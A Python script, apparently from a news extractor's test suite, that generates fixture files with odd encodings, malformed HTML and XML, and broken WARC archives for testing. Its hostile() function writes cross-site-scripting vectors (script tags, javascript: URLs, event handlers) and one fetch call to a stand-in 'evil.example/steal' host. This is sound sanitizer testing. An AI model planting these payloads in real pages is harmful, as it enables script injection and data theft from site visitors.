"""Regenerate the small bad/odd inputs in this folder (run once; the outputs are committed).

.venv/bin/python tests/data/make_inputs.py
"""

from __future__ import annotations

import gzip
import io
from pathlib import Path

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

HERE = Path(__file__).parent

RU = (
    "Министр иностранных дел России заявил во вторник, что переговоры о прекращении огня "
    "продолжатся на следующей неделе в Стамбуле. По его словам, делегации обсудят обмен "
    "пленными и гуманитарные коридоры для мирного населения."
)
RU2 = (
    "Эксперты считают, что шансы на быстрое соглашение невелики, однако сам факт встречи "
    "говорит о готовности сторон к диалогу. Следующий раунд может пройти уже в начале месяца."
)
UK = (
    "Міністр закордонних справ України заявив, що переговори щодо припинення вогню триватимуть "
    "наступного тижня у Стамбулі. За його словами, делегації обговорять обмін полоненими та "
    "гуманітарні коридори для цивільного населення."
)
UK2 = (
    "Експерти вважають, що шанси на швидку угоду невеликі, проте сам факт зустрічі свідчить про "
    "готовність сторін до діалогу. Наступний раунд може відбутися вже на початку місяця."
)


def page(title: str, paras: list[str], charset: str | None, extra_head: str = "") -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    body = "".join(f"<p>{p}</p>\n" for p in paras)
    return (
        f"<!DOCTYPE html>\n<html><head>{meta}<title>{title}</title>{extra_head}</head>\n"
        f"<body><article><h1>{title}</h1>\n{body}</article></body></html>\n"
    )


ENGLISH = [
    "The city council voted on Tuesday to expand the tram network to the northern districts, "
    "a project that has been debated for more than a decade and is expected to cost 240 million euros.",
    "Supporters say the new line will cut commuting times by a third and reduce traffic in the old "
    "town, while critics warn that construction will disrupt businesses along the route for years.",
    "The mayor said work would begin next spring and that the first trams could run by 2029, "
    "provided the regional government confirms its share of the funding before the summer.",
]


def hostile() -> str:
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Council backs tram <script>alert('title')</script> extension</title>
<link rel="canonical" href="javascript:alert('canonical')">
<meta property="og:url" content="https://news.example.org/2025/05/tram-extension">
<script>document.write('<p>INJECTED-SCRIPT-TEXT</p>'); fetch('https://evil.example/steal')</script>
<style>p {{ background: url("javascript:alert('css')") }}</style>
</head>
<body onload="alert('onload')">
<nav><a href="javascript:alert('nav')">Home</a> <a href="/news">News</a></nav>
<article>
<h1 onclick="alert('h1')">Council backs tram extension</h1>
<figure><img src="x.jpg" onerror="alert('img')" alt="tram"><figcaption>A tram in the city centre.
<script>alert('caption')</script></figcaption></figure>
<p onmouseover="alert('p')">{ENGLISH[0]}</p>
<p>{ENGLISH[1]} <a href="javascript:alert('link')">Read the report</a>.</p>
<iframe src="javascript:alert('iframe')"></iframe>
<p>{ENGLISH[2]}<img src=x onerror=alert('inline')></p>
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
</article>
<script>alert('tail')</script>
</body></html>
"""


def warc(records: list[tuple[str, str, bytes]], gz: bool = True) -> bytes:
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=gz)
    info = writer.create_warcinfo_record("test.warc", {"software": "newsdesk tests"})
    writer.write_record(info)
    for url, ctype, body in records:
        http = StatusAndHeaders("200 OK", [("Content-Type", ctype)], protocol="HTTP/1.1")
        rec = writer.create_warc_record(
            url, "response", payload=io.BytesIO(body), http_headers=http
        )
        writer.write_record(rec)
    return out.getvalue()


def main() -> None:
    (HERE / "hostile.html").write_text(hostile(), encoding="utf-8")
    ru_page = page("Переговоры продолжатся в Стамбуле", [RU, RU2], "windows-1251")
    (HERE / "cp1251.html").write_bytes(ru_page.encode("cp1251"))
    # no declaration at all: the encoding must be detected
    (HERE / "cp1251-undeclared.html").write_bytes(
        page("Переговоры продолжатся в Стамбуле", [RU, RU2], None).encode("cp1251")
    )
    (HERE / "uk-cp1251.txt").write_bytes(
        ("Переговори триватимуть у Стамбулі\n\n" + UK + "\n\n" + UK2 + "\n").encode("cp1251")
    )
    (HERE / "koi8r.txt").write_bytes(
        ("Переговоры продолжатся в Стамбуле\n\n" + RU + "\n\n" + RU2 + "\n").encode("koi8_r")
    )
    (HERE / "uk-koi8u.txt").write_bytes(
        ("Переговори триватимуть у Стамбулі\n\n" + UK + "\n\n" + UK2 + "\n").encode("koi8_u")
    )
    # a koi8-r page that *declares* windows-1251 (a classic mislabel)
    (HERE / "koi8r-mislabelled.html").write_bytes(
        page("Переговоры продолжатся в Стамбуле", [RU, RU2], "windows-1251").encode("koi8_r")
    )
    # mostly UTF-8, with cp1252 smart quotes pasted in
    mixed = page(
        "Café owners “cautiously optimistic”", [*ENGLISH, "Le café est déjà plein."], "utf-8"
    )
    mixed_bytes = mixed.encode("utf-8").replace(b"critics warn", b"critics \x93warn\x94")
    (HERE / "mixed-utf8-cp1252.html").write_bytes(mixed_bytes)
    good = page("Council backs tram extension", ENGLISH, "utf-8").encode("utf-8")
    full = gzip.compress(good)
    (HERE / "truncated.html.gz").write_bytes(full[: len(full) // 2])
    (HERE / "binary.html").write_bytes(bytes(range(256)) * 8)
    (HERE / "empty.html").write_bytes(b"")
    (HERE / "malformed-feed.xml").write_bytes(
        b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Broken</title><item><title>A</ti'
    )
    (HERE / "sitemap.xml").write_bytes(
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://x.example/</loc></url></urlset>\n'
    )
    (HERE / "malformed.html").write_bytes(
        b"<html><head><title></title></head><body><div><p><<</b>></i><!-- --></div></span>\x7f</html>"
    )
    # WARC: good page, broken record, good page, image
    pages = [
        ("https://news.example.org/a", "text/html; charset=utf-8", good),
        ("https://news.example.org/b", "text/html; charset=windows-1251", ru_page.encode("cp1251")),
        ("https://news.example.org/logo.png", "image/png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),
    ]
    (HERE / "pages.warc.gz").write_bytes(warc(pages))
    first = warc(pages[:1])
    second = warc(pages[1:])
    broken = gzip.compress(
        b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999\r\n\r\ngarbage"
    )
    (HERE / "broken.warc.gz").write_bytes(first + broken + second)
    plain = warc(pages[:1], gz=False)
    (HERE / "broken.warc").write_bytes(
        plain + b"WARC/1.0\r\nthis is not a header line\r\n\r\n\r\n" + warc(pages[1:], gz=False)
    )


if __name__ == "__main__":
    main()
